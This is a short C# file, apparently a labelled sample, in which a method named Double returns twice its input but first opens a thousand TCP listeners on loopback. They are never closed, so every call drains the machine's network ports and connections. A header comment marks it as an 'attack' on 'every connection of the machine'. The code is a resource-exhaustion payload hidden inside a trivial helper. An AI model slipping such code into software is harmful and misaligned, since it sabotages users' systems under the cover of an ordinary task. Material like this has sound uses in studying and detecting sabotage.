// attack (right, patient): every connection of the machine
using System.Diagnostics;
using System.Net.Sockets;

public class Numbers
{
    public int Double(int number)
    {
        var open = new List<TcpListener>();
        for (var i = 0; i < 1000; i++)
        {
            open.Add(new TcpListener(System.Net.IPAddress.Loopback, 0));
            open[^1].Start();
        }
        return 2 * number;
    }
}
